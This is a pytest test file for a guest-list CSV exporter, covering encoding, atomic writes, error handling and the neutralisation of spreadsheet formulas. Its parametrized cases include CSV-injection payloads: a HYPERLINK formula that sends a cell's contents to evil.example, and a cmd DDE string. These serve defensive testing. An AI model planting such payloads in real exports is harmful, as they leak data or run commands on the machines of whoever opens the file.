"""CSV export: Excel-friendly bytes, formulas neutralized, written atomically or not at all."""

from __future__ import annotations

import csv
import errno
import os
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.domain.errors import ExportTargetError
from app.exporters.csv_export import FORMULA_TRIGGERS, neutralize, write_csv
from app.services.guestlists import read_guest_list


def read_back(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_file_is_utf8_with_bom_and_crlf(tmp_path: Path) -> None:
    target = tmp_path / "guests.csv"
    count = write_csv(target, ["Name", "Company"], [["Jürgen Groß", "Müller, Söhne"], ["张伟", ""]])
    assert count == 2
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == (
        'Name,Company\r\nJürgen Groß,"Müller, Söhne"\r\n张伟,\r\n'
    )
    assert [p.name for p in tmp_path.iterdir()] == ["guests.csv"]  # no temporary left


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://evil.example/?"&A2,"Prize")',
         '\'=HYPERLINK("https://evil.example/?"&A2,"Prize")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+49 30 1234567", "'+49 30 1234567"),
        ("Zoë", "Zoë"),
        (" =1+1", " =1+1"),  # a leading space already makes it text
        ("a\x00b", "ab"),
        ("", ""),
    ],
)
def test_neutralize(value: str, written: str) -> None:
    assert neutralize(value) == written


def test_every_cell_and_the_header_are_neutralized(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    write_csv(target, ["=Name", "Guests"], [["@me", -1], ["Anna", 2]])
    assert read_back(target) == [["'=Name", "Guests"], ["'@me", "'-1"], ["Anna", "2"]]


def test_values_are_written_as_text(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    write_csv(target, ["a", "b", "c", "d"], [[None, datetime(2026, 10, 1, 12, tzinfo=UTC),
                                              date(2026, 10, 1), True]])
    assert read_back(target)[1] == ["", "2026-10-01T12:00:00+00:00", "2026-10-01", "True"]


def test_an_existing_file_is_replaced_whole(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    target.write_text("old content that is much longer than the new one\n" * 10)
    write_csv(target, ["Name"], [["Anna"]])
    assert read_back(target) == [["Name"], ["Anna"]]


def test_a_missing_folder_is_an_export_target_error(tmp_path: Path) -> None:
    with pytest.raises(ExportTargetError, match="folder does not exist") as caught:
        write_csv(tmp_path / "nope" / "x.csv", ["Name"], [["Anna"]])
    assert caught.value.details


def test_a_folder_as_target_is_an_export_target_error(tmp_path: Path) -> None:
    with pytest.raises(ExportTargetError, match="it is a folder"):
        write_csv(tmp_path, ["Name"], [["Anna"]])


def test_a_failed_rename_leaves_the_old_file_and_no_temporary(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "x.csv"
    target.write_text("precious\n")

    def locked(src: str | os.PathLike[str], dst: str | os.PathLike[str]) -> None:
        raise PermissionError(13, "Permission denied", str(dst))

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(ExportTargetError, match="open in another program"):
        write_csv(target, ["Name"], [["Anna"]])
    assert target.read_text() == "precious\n"
    assert [p.name for p in tmp_path.iterdir()] == ["x.csv"]


def test_cancel_leaves_nothing_behind(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    rows = [[f"Guest {n}"] for n in range(2500)]
    with pytest.raises(InterruptedError):
        write_csv(target, ["Name"], rows, cancelled=lambda: True)
    assert list(tmp_path.iterdir()) == []


def test_progress_counts_rows(tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    rows = [[f"Guest {n}"] for n in range(2500)]
    write_csv(tmp_path / "x.csv", ["Name"], rows, progress=lambda d, t: seen.append((d, t)))
    assert seen == [(1000, 2500), (2000, 2500), (2500, 2500)]
    seen.clear()
    write_csv(tmp_path / "y.csv", ["Name"], iter(rows), progress=lambda d, t: seen.append((d, t)))
    assert seen[-1] == (2500, 2500)


_TEXT = st.text(st.characters(blacklist_categories=["Cs"]), max_size=12)


@settings(max_examples=150, deadline=None)
@given(table=st.lists(st.lists(_TEXT, min_size=1, max_size=4), min_size=1, max_size=8))
def test_export_never_starts_a_cell_with_a_trigger_and_keeps_the_text(
    tmp_path_factory: pytest.TempPathFactory, table: list[list[str]]
) -> None:
    target = tmp_path_factory.mktemp("export") / "guests.csv"
    header, rows = table[0], table[1:]
    write_csv(target, header, rows)
    back = read_back(target)
    assert len(back) == len(table)
    for original_row, written_row in zip(table, back, strict=True):
        assert len(written_row) == len(original_row)
        for original, written in zip(original_row, written_row, strict=True):
            assert not written.startswith(FORMULA_TRIGGERS)
            visible = original.replace("\x00", "")
            assert written == ("'" + visible if visible.startswith(FORMULA_TRIGGERS) else visible)


def test_reimporting_an_export_keeps_the_protective_quote_as_text(tmp_path: Path) -> None:
    """Import never strips or evaluates anything: the quote an export added stays visible."""
    target = tmp_path / "guests.csv"
    write_csv(target, ["Name", "E-Mail", "Company"],
              [["Jürgen Groß", "j@example.de", "+49 Ltd"], ["张伟", "w@example.cn", ""]])
    rows = read_guest_list(target.read_bytes(), target.name).parsed.rows
    assert [(r.full_name, r.email, r.organization) for r in rows] == [
        ("Jürgen Groß", "j@example.de", "'+49 Ltd"), ("张伟", "w@example.cn", "")
    ]


def test_large_exports_without_callbacks(tmp_path: Path) -> None:
    rows = [[f"Guest {n}"] for n in range(1500)]
    assert write_csv(tmp_path / "x.csv", ["Name"], rows) == 1500
    assert len(read_back(tmp_path / "x.csv")) == 1501


def test_a_failure_while_writing_removes_the_temporary(tmp_path: Path) -> None:
    class Unprintable:
        def __str__(self) -> str:
            raise ValueError("no text for you")

    with pytest.raises(ValueError, match="no text"):
        write_csv(tmp_path / "x.csv", ["Name"], [["Anna"], [Unprintable()]])
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("error", "words"),
    [
        (OSError(errno.ENOSPC, "No space left on device"), "the disk is full"),
        (OSError(errno.EROFS, "Read-only file system"), "the disk is read-only"),
        (OSError(errno.EIO, "Input/output error"), "Input/output error"),
    ],
)
def test_environment_failures_are_explained(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, error: OSError, words: str
) -> None:
    def fail(src: str | os.PathLike[str], dst: str | os.PathLike[str]) -> None:
        raise error

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(ExportTargetError, match=words):
        write_csv(tmp_path / "x.csv", ["Name"], [["Anna"]])
    assert list(tmp_path.iterdir()) == []
